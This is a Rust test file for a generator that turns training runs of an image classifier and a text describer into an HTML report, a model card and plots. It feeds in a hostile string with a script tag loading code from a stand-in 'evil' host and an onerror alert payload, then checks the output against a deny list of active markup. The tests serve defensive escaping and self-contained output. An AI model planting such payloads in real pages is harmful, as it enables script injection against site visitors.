//! The page, the card and the plots of invented runs.

use super::*;
use crate::{
    data::Part,
    run::predictions::{self, Prediction},
};
use mmlnb_models::prepare::phantom::MARK;
use serde_json::json;
use std::{fs, path::PathBuf};

const CLASSES: [&str; 3] = ["UD", "PD", "<script>D&\"|"];
const HOSTILE: &str = "</blockquote><script src=\"http://evil/x.js\"></script><img src=http://evil/y.png onerror=alert(1)>`|**";

struct Made {
    _folder: tempfile::TempDir,
    run: PathBuf,
    images: PathBuf,
}

fn made() -> Made {
    let folder = tempfile::tempdir().unwrap();
    let (run, images) = (folder.path().join("run-1"), folder.path().join("images"));
    fs::create_dir_all(run.join("best")).unwrap();
    fs::create_dir_all(&images).unwrap();
    image::RgbImage::from_fn(64, 48, |x, y| image::Rgb([200, x as u8, y as u8])).save(images.join("a.png")).unwrap();
    Made { _folder: folder, run, images }
}

/// A classifier's run: 4 epochs of 3 steps, 40 test and 20 validation images, of which every fifth is answered wrongly.
fn classifier_run(calibration: serde_json::Value) -> Made {
    let made = made();
    let settings = "[recipe]\nname = \"paper\"\nepochs = 4\nlambda_schedule = \"linear\"\ntext_unfrozen_from_epoch = 1\n\
                    encoders_frozen_from_epoch = 3\n[data]\nsha256 = \"0123456789abcdef\"\nfile = \"<i>x\"\n";
    fs::write(made.run.join("run.toml"), settings).unwrap();
    fs::write(made.run.join("best/config.json"), json!({ "classes": CLASSES, "calibration": calibration }).to_string()).unwrap();
    let mut lines = String::new();
    for step in 0..12u64 {
        let loss = 1.0 / (1.0 + step as f64);
        let line = json!({ "kind": "step", "step": step, "epoch": step / 3, "loss": loss, "loss_fused": loss, "loss_image": loss, "lambda": 0.3,
            "alpha_mean": 0.4, "alpha_std": 0.1, "train_accuracy": 0.5 + 0.04 * step as f64 });
        lines += &format!("{line}\n");
        if step % 3 == 2 {
            let line = json!({ "kind": "validation", "step": step, "epoch": step / 3, "accuracy": 0.6, "nll": null, "text_accuracy": 0.5, "image_accuracy": 0.55 });
            lines += &format!("{line}\n");
        }
    }
    lines += &format!(
        "{}\n",
        json!({ "kind": "diagnostic", "step": 5, "epoch": 1, "code": "alpha_undecided", "message": HOSTILE, "remedy": "wait" })
    );
    fs::write(made.run.join("metrics.jsonl"), lines).unwrap();
    predictions::write(&made.run, &(0..60).map(prediction).collect::<Vec<_>>()).unwrap();
    let accuracy = json!({ "value": 0.8, "interval": { "low": 0.71, "high": 0.88, "redraws": 0 } });
    let estimates = json!({ "estimates": { "warning": null, "no_interval": null, "measures": { "accuracy": accuracy } } });
    let data = json!({ "parts": [{ "part": "train", "images": 90, "per_class": [30, 29, 31], "patients": 21, "sites": {} }] });
    fs::write(
        made.run.join("measures.json"),
        json!({ "test": estimates, "validation": estimates, "data": data, "warnings": [HOSTILE] }).to_string(),
    )
    .unwrap();
    made
}

fn prediction(number: usize) -> Prediction {
    let truth = number % 3;
    let said = if number.is_multiple_of(5) { (truth + 1) % 3 } else { truth };
    let logits: Vec<f64> = (0..3).map(|class| if class == said { 1.0 + number as f64 / 40.0 } else { 0.0 }).collect();
    Prediction {
        file_name: if number.is_multiple_of(2) { "a.png".into() } else { format!("gone/{number}\"<b>.png") },
        sha256: format!("{number:064x}"),
        line: number as u64 + 2,
        group: Some(format!("p{}", number % 12)),
        site: None,
        part: if number < 40 { Part::Test } else { Part::Validation },
        class: CLASSES[truth].into(),
        image_logits: Some(logits.clone()),
        text_logits: None,
        logits,
        alpha_text: Some(0.3 + number as f64 / 200.0),
        description: Some(HOSTILE.into()),
        novelty: Some(0.1),
        verdict: if number.is_multiple_of(4) { "abstain".into() } else { "accepted".into() },
        verdict_reasons: if number.is_multiple_of(4) { vec!["low_confidence".into()] } else { Vec::new() },
    }
}

fn describer_run() -> Made {
    let made = made();
    fs::write(
        made.run.join("run.toml"),
        "[recipe]\nepochs = 2\nrank = 16\n[base]\nname = \"<b>base\"\n[data]\nsha256 = \"ab\"\n",
    )
    .unwrap();
    let mut lines = String::new();
    for step in 0..8u64 {
        let loss = 3.0 / (1.0 + step as f64);
        lines += &format!(
            "{}\n",
            json!({ "kind": "step", "step": step, "epoch": step / 4, "loss": loss, "learning_rate": 1e-4, "gradient_norm": 1.0 })
        );
        if step % 4 == 3 {
            let line = json!({ "kind": "validation", "step": step, "epoch": step / 4, "nll": loss, "bleu": 20.0, "rouge1": 0.4, "rouge2": 0.2, "rougeL": 0.3,
                "chrf": 40.0, "facts_f1": 0.5, "stopped": 1.0, "distinct": 0.9, "repetition": 0.01 });
            lines += &format!("{line}\n");
        }
    }
    fs::write(made.run.join("metrics.jsonl"), lines).unwrap();
    let example = json!({ "file_name": "a.png", "reference": "Small cells.", "base": HOSTILE, "tuned": HOSTILE });
    fs::write(made.run.join("examples.jsonl"), format!("{example}\n")).unwrap();
    made
}

fn calibrated() -> serde_json::Value {
    json!({ "temperature": 1.3, "threshold": 0.62, "patient_split": true,
        "guarantee": { "risk": 0.1, "confidence": 0.95, "items": 80, "groups": 11, "effective_items": 61.5, "errors": 1 },
        "novelty": { "threshold": 0.4, "false_alarm": 0.05, "neighbours": 10 } })
}

fn written(made: &Made) -> (String, String, Vec<String>) {
    write(&made.run, &made.images).unwrap();
    let read = |name: &str| fs::read_to_string(made.run.join(name)).unwrap();
    let mut plots: Vec<String> =
        fs::read_dir(made.run.join("plots")).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    plots.sort();
    (read("report.html"), read("MODEL_CARD.md"), plots)
}

/// Nothing that a browser would fetch or run: no element or attribute that can, but images that lie in the page.
fn assert_self_contained(page: &str) {
    for forbidden in [
        "<script",
        "<img src=http",
        "<link",
        "<iframe",
        "<object",
        "<image",
        "<use",
        "href=",
        " onerror=\"",
        "@import",
        "url(",
        "javascript:",
    ] {
        assert!(!page.contains(forbidden), "{forbidden} in the page");
    }
    for source in page.split(" src=\"").skip(1) {
        assert!(source.starts_with("data:image/jpeg;base64,"), "{}", &source[..40]);
    }
    assert!(page.contains("default-src 'none'; img-src data:; style-src 'unsafe-inline'"));
}

#[test]
fn a_classifiers_page_holds_every_plot_and_nothing_from_outside() {
    let made = classifier_run(calibrated());
    let (page, _, plots) = written(&made);
    assert_self_contained(&page);
    let expected =
        ["accuracy", "alpha_by_class", "confusion", "lambda_alpha", "loss", "per_class", "reliability", "risk_coverage", "roc"];
    assert_eq!(plots, expected.map(|name| format!("{name}.png")));
    assert_eq!(page.matches("<svg ").count(), expected.len());
    for wanted in [
        "RESEARCH USE ONLY",
        "Accuracy 0.800 [0.710, 0.880]",
        "On the test part: 40 of 12 patients",
        "90 of 21 patients",
        "20 of 12 patients",
        "Wrong answers",
        "Right answers",
        "alpha undecided",
        "2: all train",
        "&lt;script&gt;D&amp;",
        "the image is no longer where it was",
        "data:image/jpeg;base64,",
        "image alone: ",
        "With confidence 95 %, at most 10 % of the answers at or above 0.62 are wrong",
    ] {
        assert!(page.contains(wanted), "{wanted}");
    }
    assert!(!page.contains("NaN") && !page.contains("NOT SPLIT BY PATIENT"));
}

#[test]
fn the_card_says_what_was_measured_and_hostile_text_stays_in_its_cell() {
    let (_, card, _) = written(&classifier_run(calibrated()));
    for wanted in [
        "# run-1",
        "Intended use\nResearch",
        "| accuracy | 0.800 [0.710, 0.880] |",
        "- temperature 1.3000",
        "sha256: 0123456789abcdef",
        "~~~toml",
    ] {
        assert!(card.contains(wanted), "{wanted}:\n{card}");
    }
    assert!(card.contains("&lt;script>D&\"\\|"), "{card}");
    assert!(!card.contains("<script"), "{card}");
}

#[test]
fn doubtful_figures_are_marked_on_page_and_card() {
    let mut calibration = calibrated();
    (calibration["patient_split"], calibration["protocol"], calibration["describer_overlap"]) =
        (json!(false), json!("paper"), json!(true));
    calibration["threshold"] = json!(null);
    let (page, card, _) = written(&classifier_run(calibration));
    for wanted in ["NOT SPLIT BY PATIENT", "Protocol of the paper", "OVERLAP", "everything abstains"] {
        assert!(page.contains(wanted) && card.contains(wanted), "{wanted}");
    }
}

#[test]
fn phantoms_are_called_phantoms() {
    let made = classifier_run(calibrated());
    let mut bytes = fs::read(made.images.join("a.png")).unwrap();
    bytes.splice(33..33, png_text(format!("Description\0{MARK}").as_bytes()));
    fs::write(made.images.join("a.png"), bytes).unwrap();
    let (page, card, _) = written(&made);
    assert!(page.contains("PHANTOMS") && card.contains("PHANTOMS"));
}

fn png_text(text: &[u8]) -> Vec<u8> {
    let body = [b"tEXt", text].concat();
    let crc = !body
        .iter()
        .fold(!0u32, |crc, byte| (0..8).fold(crc ^ u32::from(*byte), |crc, _| (crc >> 1) ^ (0xedb8_8320 * (crc & 1))));
    [&(text.len() as u32).to_be_bytes()[..], &body, &crc.to_be_bytes()].concat()
}

#[test]
fn a_describers_page_holds_its_curves() {
    let (page, card, plots) = written(&describer_run());
    assert_self_contained(&page);
    assert_eq!(plots, ["behaviour.png", "bleu_chrf.png", "gradient.png", "learning_rate.png", "loss.png", "texts.png"]);
    assert!(page.contains("before training") && page.contains("<blockquote class=\"small\">Small cells.</blockquote>"));
    assert!(page.contains("Loss a token") && card.contains("| rougeL | 0.3000 |") && card.contains("&lt;b>base"));
}

#[test]
fn writing_again_gives_the_same_bytes() {
    let made = classifier_run(calibrated());
    let first = written(&made);
    let plot = fs::read(made.run.join("plots/roc.png")).unwrap();
    assert!(first == written(&made) && plot == fs::read(made.run.join("plots/roc.png")).unwrap());
}

#[test]
fn predictions_of_other_classes_are_refused() {
    let made = classifier_run(calibrated());
    fs::write(made.run.join("best/config.json"), json!({ "classes": ["UD", "PD"] }).to_string()).unwrap();
    let error = write(&made.run, &made.images).unwrap_err();
    assert!(error.to_string().contains("do not fit the classes of best/config.json (UD, PD)"), "{error}");
}
